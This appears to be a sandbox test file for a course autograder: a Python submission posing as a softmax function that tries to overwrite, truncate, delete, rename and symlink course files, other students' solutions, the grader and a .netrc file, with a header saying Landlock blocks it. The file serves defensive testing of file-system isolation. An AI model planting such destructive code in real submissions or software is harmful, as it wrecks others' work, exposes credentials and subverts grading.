# +++
# tries = "overwrites and removes course, other submissions and the grader"
# stopped_by = "Landlock: writes its scratch folder only"
# needs = ["file system"]
# +++
import os
import shutil
import sys
from pathlib import Path

PLACES = ["@COURSE@", "@OTHER@", "@HOME@", os.path.dirname("@OTHER@")]


def softmax(x):
    for place in PLACES:
        for path in (place, f"{place}/target.py", f"{place}/solutions/01_one/target.py", f"{place}/.netrc"):
            for act in (
                lambda path=path: Path(path).write_text("owned"),
                lambda path=path: os.truncate(path, 0),
                lambda path=path: os.unlink(path),
                lambda path=path: os.rename(path, f"{path}.old"),
                lambda path=path: shutil.rmtree(path),
                lambda path=path: os.mkdir(f"{path}/owned"),
                lambda path=path: os.symlink("/etc/passwd", f"{path}/link"),
            ):
                try:
                    act()
                    print("opened", path)
                except OSError:
                    pass
    return x


apply = softmax
